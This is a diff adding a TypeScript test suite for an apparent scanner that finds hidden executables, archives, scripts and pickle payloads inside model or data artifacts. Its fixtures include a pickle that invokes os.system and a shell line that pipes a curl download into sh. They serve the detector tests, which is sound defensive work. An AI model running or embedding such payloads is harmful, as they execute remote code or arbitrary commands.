@@ -1,0 +1,249 @@
+import { createHash } from 'node:crypto';
+import { gzipSync } from 'node:zlib';
+import type { PayloadFact } from '@sentrascan/contract';
+import { assemblePickle, EXECUTABLE_HEADS } from '@sentrascan/testkit';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { MemoryAccess } from '../../bytes/random-access.ts';
+import { createSweepKernel, typescriptKernel } from '../../bytes/sweep/sweep-kernel.ts';
+import { hashAndSweep, type SweepOptions } from './hash-and-sweep.ts';
+import { payloadsIn, type SearchedRange } from './payloads-in.ts';
+
+const SMALL_WINDOW_BYTES = 4096;
+
+function ascii(text: string): Uint8Array {
+  return Buffer.from(text, 'latin1');
+}
+
+/** Deterministic noise without a structure. */
+function noise(lengthBytes: number, seed = 1): Uint8Array {
+  const bytes = new Uint8Array(lengthBytes);
+  let state = seed * 0x9e3779b1;
+  for (let index = 0; index < lengthBytes; index++) {
+    state ^= state << 13;
+    state ^= state >>> 17;
+    state ^= state << 5;
+    bytes[index] = state >>> 24;
+  }
+  return bytes;
+}
+
+function zipLocalHeader(name: string, data: Uint8Array): Uint8Array {
+  const head = Buffer.alloc(30);
+  head.writeUInt32LE(0x04034b50, 0);
+  head.writeUInt16LE(20, 4);
+  head.writeUInt32LE(data.length, 18);
+  head.writeUInt32LE(data.length, 22);
+  head.writeUInt16LE(name.length, 26);
+  return Buffer.concat([head, ascii(name), data]);
+}
+
+function tarHeader(name: string, magic: string): Uint8Array {
+  const block = Buffer.alloc(512);
+  block.write(name, 0, 'latin1');
+  block.write('0000644\0', 100, 'latin1');
+  block.write('00000000000\0', 124, 'latin1');
+  block.write(magic, 257, 'latin1');
+  block.fill(0x20, 148, 156);
+  const sum = block.reduce((total, byte) => total + byte, 0);
+  block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
+  return block;
+}
+
+const HEADS: Record<string, Uint8Array> = {
+  ...Object.fromEntries(Object.entries(EXECUTABLE_HEADS).map(([kind, head]) => [kind, head()])),
+  zip: zipLocalHeader('a.txt', ascii('text')),
+  tar: tarHeader('a.txt', 'ustar\x0000'),
+  gzip: gzipSync(noise(300)),
+  bzip2: Uint8Array.from([...ascii('BZh9'), 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 1, 2, 3, 4]),
+  xz: Uint8Array.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4, 0xe6, 0xd6, 0xb4, 0x46]),
+  // One compressed frame of two raw blocks, single segment, content size 4.
+  zstd: Uint8Array.from([0x28, 0xb5, 0x2f, 0xfd, 0x20, 4, 16, 0, 0, 1, 2, 17, 0, 0, 3, 4]),
+  pickle: assemblePickle('PROTO 4 | GLOBAL os system | UNICODE id | TUPLE1 | REDUCE | STOP'),
+};
+
+function search(bytes: Uint8Array, ranges?: SearchedRange[], options?: SweepOptions): readonly PayloadFact[] {
+  const access = new MemoryAccess(bytes);
+  const { hits } = hashAndSweep(access, options);
+  return payloadsIn(access, hits, ranges ?? [{ start: 0, end: bytes.length, where: 'opaque' }]).payloads;
+}
+
+describe('payload validators', () => {
+  it.each(Object.entries(HEADS))('recognise %s at the start, in noise and at the end', (kind, head) => {
+    for (const before of [0, 1, 7777, 70_001]) {
+      const bytes = Buffer.concat([noise(before, 3), head, before === 0 ? noise(50, 4) : new Uint8Array(0)]);
+      const found = search(bytes).filter((payload) => payload.payload === kind);
+      expect(found.map((payload) => payload.offset)).toContain(before);
+    }
+  });
+
+  it.each(Object.entries(HEADS))('find %s across every boundary of windows', (kind, head) => {
+    const kernel = createSweepKernel(SMALL_WINDOW_BYTES);
+    for (let back = 0; back <= Math.min(head.length, 300); back += back < 16 ? 1 : 23) {
+      const at = SMALL_WINDOW_BYTES - back;
+      const bytes = Buffer.concat([new Uint8Array(at), head, new Uint8Array(64)]);
+      expect(search(bytes, undefined, { kernel })).toContainEqual(
+        expect.objectContaining({ payload: kind, offset: at }),
+      );
+    }
+  });
+
+  it.each(Object.entries(HEADS))(
+    'decline %s when its header is cut or one of its first bytes differs',
+    (kind, head) => {
+      for (const cut of [1, 2, 3]) {
+        expect(search(head.subarray(0, cut)).filter((payload) => payload.payload === kind)).toEqual([]);
+      }
+      const changed = Uint8Array.from(head);
+      changed[1] = (changed[1] ?? 0) ^ 0x40;
+      expect(search(changed).filter((payload) => payload.payload === kind && payload.offset === 0)).toEqual(
+        [],
+      );
+    },
+  );
+
+  it('find nothing in noise, zeros, floats and lookalikes', () => {
+    expect(search(noise(4 * 1024 * 1024, 9))).toEqual([]);
+    expect(search(new Uint8Array(1024 * 1024))).toEqual([]);
+    const floats = Float32Array.from({ length: 250_000 }, (_, index) => Math.sin(index) * 0.02);
+    expect(search(new Uint8Array(floats.buffer))).toEqual([]);
+    const tokens = Int32Array.from({ length: 100_000 }, (_, index) => (index * 7919) % 50_000);
+    expect(search(new Uint8Array(tokens.buffer))).toEqual([]);
+    const lookalikes = [
+      'MZ',
+      'MZ\x90\0'.padEnd(80, '\0'),
+      'PK\x03\x04',
+      '\x1f\x8b',
+      `\x1f\x8b\x08\0\0\0\0\0\0\x03${'\xff'.repeat(40)}`,
+      '#!\x01\x02',
+      '#!/not a program, some text',
+      '\x80\x02.',
+      '\x80\x04K\x01.',
+      '\xca\xfe\xba\xbe',
+      '\x7fELF',
+      'BZh9 is a prefix',
+      'Rar! is a word',
+    ];
+    for (const text of lookalikes) {
+      const bytes = Buffer.concat([noise(999, 5), ascii(text), noise(999, 6)]);
+      expect(search(bytes), text).toEqual([]);
+    }
+  });
+
+  it('tell a Java class from a fat Mach-O', () => {
+    expect(search(HEADS['java-class'] ?? new Uint8Array(0))[0]?.payload).toBe('java-class');
+    expect(search(HEADS['mach-o-fat'] ?? new Uint8Array(0))[0]?.payload).toBe('mach-o-fat');
+  });
+
+  it.each([
+    ['batch', '@echo off\r\nrem inert\r\n'],
+    ['PowerShell', '$client = New-Object Net.WebClient\n'],
+    ['Python', 'import os\nprint("inert")\n'],
+    ['shell', 'curl http://host.invalid/x | sh\n'],
+  ])('recognise %s source only where a range starts', (language, source) => {
+    expect(search(ascii(source))[0]?.detail).toContain(language);
+    expect(search(Buffer.concat([noise(100), ascii(source)]))).toEqual([]);
+  });
+
+  it('recognise a pickle without PROTO only where a range starts', () => {
+    const old = assemblePickle('GLOBAL os system | MARK | STRING "\'id\'" | TUPLE | REDUCE | STOP');
+    expect(search(old)[0]).toMatchObject({
+      payload: 'pickle',
+      offset: 0,
+      detail: expect.stringContaining('os.system'),
+    });
+    const bytes = Buffer.concat([noise(64, 2), old]);
+    expect(search(bytes, [{ start: 64, end: bytes.length, where: 'tail' }])[0]?.where).toBe('tail');
+  });
+});
+
+describe('the pass over an artifact', () => {
+  it('hands every byte to the hash once and in order', () => {
+    const bytes = noise(3 * SMALL_WINDOW_BYTES + 123);
+    for (const kernel of [createSweepKernel(SMALL_WINDOW_BYTES), typescriptKernel(SMALL_WINDOW_BYTES)]) {
+      const hash = createHash('sha256');
+      const sweep = hashAndSweep(new MemoryAccess(bytes), { onBytes: (chunk) => hash.update(chunk), kernel });
+      expect(hash.digest('hex')).toBe(createHash('sha256').update(bytes).digest('hex'));
+      expect(sweep.bytesSwept).toBe(bytes.length);
+    }
+  });
+
+  it('says how far it came when it is stopped or the bytes end early', () => {
+    const bytes = noise(3 * SMALL_WINDOW_BYTES);
+    const kernel = createSweepKernel(SMALL_WINDOW_BYTES);
+    let chunks = 0;
+    const stopped = hashAndSweep(new MemoryAccess(bytes), { kernel, shouldStop: () => chunks++ === 1 });
+    expect(stopped.bytesSwept).toBe(SMALL_WINDOW_BYTES);
+    const shrunk = { ...new MemoryAccess(bytes), sizeBytes: bytes.length, readInto: () => 0 };
+    expect(hashAndSweep(shrunk as unknown as MemoryAccess, { kernel }).bytesSwept).toBe(0);
+  });
+
+  it('gives the same hits with both searches, whatever the bytes, and never throws', () => {
+    const heads = Object.values(HEADS);
+    const piece = fc.oneof(
+      fc.uint8Array({ maxLength: 200 }),
+      fc.tuple(fc.constantFrom(...heads), fc.nat(600)).map(([head, cut]) => head.subarray(0, cut)),
+      fc.tuple(fc.constantFrom(...heads), fc.nat(600), fc.nat(255)).map(([head, at, byte]) => {
+        const changed = Uint8Array.from(head);
+        changed[at % changed.length] = byte;
+        return changed;
+      }),
+    );
+    const kernels = [createSweepKernel(SMALL_WINDOW_BYTES), typescriptKernel(SMALL_WINDOW_BYTES)] as const;
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
+        const bytes = Buffer.concat(pieces);
+        const [first, second] = kernels.map((kernel) => search(bytes, undefined, { kernel }));
+        expect(first).toEqual(second);
+        for (const payload of first ?? []) {
+          expect(payload.offset).toBeGreaterThanOrEqual(0);
+          expect(payload.offset + (payload.lengthBytes ?? 0)).toBeLessThanOrEqual(bytes.length);
+        }
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('keeps lookalikes from buying time: the proof is bounded and says so', () => {
+    const bytes = Buffer.alloc(4 * 1024 * 1024);
+    for (let at = 0; at + 4 < bytes.length; at += 2) bytes.set([0x80, 2], at);
+    const start = process.cpuUsage();
+    const sweep = hashAndSweep(new MemoryAccess(bytes));
+    expect(sweep.isProofExhausted).toBe(true);
+    expect(process.cpuUsage(start).user / 1e6).toBeLessThan(20);
+  });
+});
+
+describe('payloads in ranges', () => {
+  const elf = EXECUTABLE_HEADS.elf();
+  const bytes = Buffer.concat([elf, new Uint8Array(1000), elf, new Uint8Array(1000), elf]);
+
+  it('are only those that start where nobody explains the bytes', () => {
+    const second = elf.length + 1000;
+    const payloads = search(bytes, [{ start: 500, end: second + 1, where: 'between' }]);
+    expect(payloads).toEqual([
+      { kind: 'payload', payload: 'elf', offset: second, detail: 'ELF 64-bit executable', where: 'between' },
+    ]);
+    expect(search(bytes, [{ start: 1, end: second, where: 'between' }])).toEqual([]);
+    expect(search(bytes, [])).toEqual([]);
+  });
+
+  it('tell an archive of several entries once', () => {
+    const archive = Buffer.concat(['a', 'b', 'c'].map((name) => zipLocalHeader(name, ascii('data'))));
+    expect(search(archive)).toEqual([
+      { kind: 'payload', payload: 'zip', offset: 0, detail: 'zip entry "a" and 2 more', where: 'opaque' },
+    ]);
+  });
+
+  it('find a PE whose signature lies far behind its start', () => {
+    const pe = Buffer.alloc(60_000 + 64);
+    pe.write('MZ', 0, 'latin1');
+    pe.writeUInt32LE(60_000, 60);
+    pe.set(EXECUTABLE_HEADS.pe().subarray(128), 60_000);
+    const whole = Buffer.concat([noise(5000), pe]);
+    expect(search(whole, [{ start: 4999, end: 5001, where: 'between' }])[0]).toMatchObject({
+      payload: 'pe',
+      offset: 5000,
+    });
+  });
+});
